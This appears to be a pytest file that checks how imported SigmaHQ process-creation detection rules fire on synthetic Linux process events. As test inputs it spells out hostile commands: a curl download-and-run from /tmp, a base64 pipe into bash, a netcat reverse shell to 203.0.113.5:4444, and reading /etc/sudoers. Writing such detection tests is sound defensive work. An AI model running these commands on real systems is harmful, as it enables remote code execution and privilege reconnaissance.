"""Sigma process_creation rules (real SigmaHQ rules, parsed by pySigma) on process events."""

from __future__ import annotations

from pathlib import Path

import pytest

from sekimori.protocol.events.process import ProcessStarted
from sekimori.server.rules import (
    BUILTIN_LISTS,
    EvalEvent,
    RuleSet,
    SigmaImportError,
    import_sigma,
    import_sigma_rules,
    load_builtin_rules,
)
from sekimori.server.rules.sigma import SigmaMatch
from tests.server.rules.helpers import event

DATA = Path(__file__).parent / "data" / "sigma_linux_process_creation.yml"


def process(exe: str, *argv: str, user: str = "alice") -> EvalEvent:
    return event(
        ProcessStarted(
            pid=4711,
            ppid=4700,
            name=Path(exe).name[:15],
            exe=exe,
            argv=list(argv),
            user=user,
            uid=1000,
            start_time_us=0,
            sha256="ab" * 32,
            hash_status="ok",
        )
    )


@pytest.fixture(scope="module")
def sigma_rules() -> RuleSet:
    imports = import_sigma_rules(DATA.read_text(), DATA.name)
    return RuleSet([i.rule for i in imports])


def fired(rules: RuleSet, e: EvalEvent) -> list[str]:
    return [m.rule_id for m in rules.evaluate(e)]


def test_the_sigmahq_rules_import_with_id_author_and_level() -> None:
    imports = import_sigma_rules(DATA.read_text(), DATA.name)
    assert [(i.sigma_id, i.author, i.rule.severity, i.unsupported_fields) for i in imports] == [
        ("0f79c4d2-4e1f-4683-9c36-b5469a665e06", "Florian Roth (Nextron Systems)", "medium", ()),
        ("ba592c6d-6888-43c3-b8c6-689b8fe47337", "pH-T", "medium", ()),
        ("a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa", "Aayush Gupta", "high", ()),
    ]
    assert all(i.rule.kinds == ("process.started",) for i in imports)


def test_cat_sudoers(sigma_rules: RuleSet) -> None:
    rule = "sigma.0f79c4d2-4e1f-4683-9c36-b5469a665e06"
    assert fired(sigma_rules, process("/usr/bin/cat", "cat", "/etc/sudoers")) == [rule]
    assert fired(sigma_rules, process("/usr/bin/LESS", "less", "/etc/sudoers.d/x")) == [rule]
    # Near-misses: another file; a program not in the list reading it.
    assert fired(sigma_rules, process("/usr/bin/cat", "cat", "/etc/hosts")) == []
    assert fired(sigma_rules, process("/usr/bin/vim", "vim", "/etc/sudoers")) == []


def test_base64_pipe_to_shell(sigma_rules: RuleSet) -> None:
    rule = "sigma.ba592c6d-6888-43c3-b8c6-689b8fe47337"
    hit = process("/usr/bin/bash", "bash", "-c", "echo x | base64 -w0 | bash")
    assert fired(sigma_rules, hit) == [rule]
    # Near-misses: base64 without the shell, a shell without base64 -w0.
    assert fired(sigma_rules, process("/usr/bin/base64", "base64", "-w0", "f.bin")) == []
    assert fired(sigma_rules, process("/usr/bin/bash", "bash", "-c", "cat x | bash")) == []


def test_download_and_execute_from_tmp(sigma_rules: RuleSet) -> None:
    rule = "sigma.a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa"
    hit = process(
        "/bin/sh", "sh", "-c", "/usr/bin/curl -o /tmp/x.sh http://198.51.100.2/x.sh && sh /tmp/x.sh"
    )
    assert fired(sigma_rules, hit) == [rule]
    # Near-miss: all of the selections are needed; the download alone is not enough.
    miss = process("/usr/bin/curl", "/usr/bin/curl", "-o", "/tmp/x.sh", "http://198.51.100.2/x")
    assert fired(sigma_rules, miss) == []


def sigma(detection: str, *, category: str = "process_creation") -> str:
    return (
        "title: Test rule\nid: 11111111-2222-3333-4444-555555555555\nstatus: test\n"
        f"logsource:\n    product: linux\n    category: {category}\n"
        f"detection:\n{detection}\nlevel: low\n"
    )


def matches(detection: str, *events: EvalEvent) -> list[bool | None]:
    imported = import_sigma(sigma(detection))
    assert isinstance(imported.rule.match, SigmaMatch)
    return [imported.rule.match.tri_state(e) for e in events]


def test_modifiers_and_conditions() -> None:
    nc = process("/usr/bin/nc", "nc", "-e", "/bin/sh", "203.0.113.5", "4444")
    ls = process("/usr/bin/ls", "ls", "-la", "/root", user="root")
    cases = {
        "    sel:\n        CommandLine|contains|all: ['-e', '/bin/sh']\n    condition: sel": [
            True,
            False,
        ],
        "    sel:\n        Image|re: '/(nc|ncat)$'\n    condition: sel": [True, False],
        "    sel:\n        Image: '/usr/bin/NC'\n    condition: sel": [True, False],
        "    sel:\n        Image|cased: '/usr/bin/NC'\n    condition: sel": [False, False],
        "    sel:\n        Image: '/usr/bin/?s'\n    condition: sel": [False, True],
        "    sel:\n        CommandLine|windash|contains: ' -la'\n    condition: sel": [False, True],
        "    sel_a:\n        User: root\n    sel_b:\n        Image|endswith: /nc\n"
        "    condition: 1 of sel_*": [True, True],
        "    sel:\n        Image|startswith: /usr/bin/\n    filter:\n        User: root\n"
        "    condition: sel and not filter": [True, False],
        "    sel:\n        Image|endswith: /nc\n    other:\n        User: alice\n"
        "    condition: all of them": [True, False],
        "    keywords:\n        - '4444'\n    condition: keywords": [True, False],
    }
    for detection, expected in cases.items():
        assert matches(detection, nc, ls) == expected, detection


def test_fields_our_events_lack_are_unknown_and_never_let_a_rule_fire() -> None:
    shell = process("/usr/bin/bash", "bash")
    with_parent = (
        "    sel:\n        Image|endswith: /bash\n"
        "    parent:\n        ParentImage|endswith: /nginx\n"
    )
    imported = import_sigma(sigma(with_parent + "    condition: sel and parent"))
    assert imported.unsupported_fields == ("ParentImage",)
    assert matches(with_parent + "    condition: sel and parent", shell) == [None]
    # A filter we cannot check does not let the alert through either.
    assert matches(with_parent + "    condition: sel and not parent", shell) == [None]
    assert matches(with_parent + "    condition: sel or parent", shell) == [True]
    rules = RuleSet([imported.rule])
    assert rules.evaluate(shell) == []


def test_unsupported_rules_are_refused_with_the_reason() -> None:
    with pytest.raises(SigmaImportError, match="'file_event' is not supported"):
        import_sigma(sigma("    sel:\n        Image: x\n    condition: sel", category="file_event"))
    only = "    sel:\n        OriginalFileName: x.exe\n        Product: Foo\n    condition: sel"
    with pytest.raises(SigmaImportError, match=r"\(OriginalFileName, Product\); it could never"):
        import_sigma(sigma(only))
    with pytest.raises(SigmaImportError, match="not a valid Sigma rule"):
        import_sigma("title: x\n")
    with pytest.raises(SigmaImportError, match="'missing' not defined"):
        import_sigma(sigma("    sel:\n        Image: x\n    condition: sel and missing"))


def test_sigma_rules_run_beside_the_builtin_pack() -> None:
    imports = import_sigma_rules(DATA.read_text(), DATA.name)
    lists: dict[str, list[str]] = {name: [] for name in BUILTIN_LISTS}
    rules = RuleSet([*load_builtin_rules(), *(i.rule for i in imports)], lists)
    assert len(rules.rules_for("process.started")) == 3
    assert fired(rules, process("/usr/bin/cat", "cat", "/etc/sudoers")) == [
        "sigma.0f79c4d2-4e1f-4683-9c36-b5469a665e06"
    ]
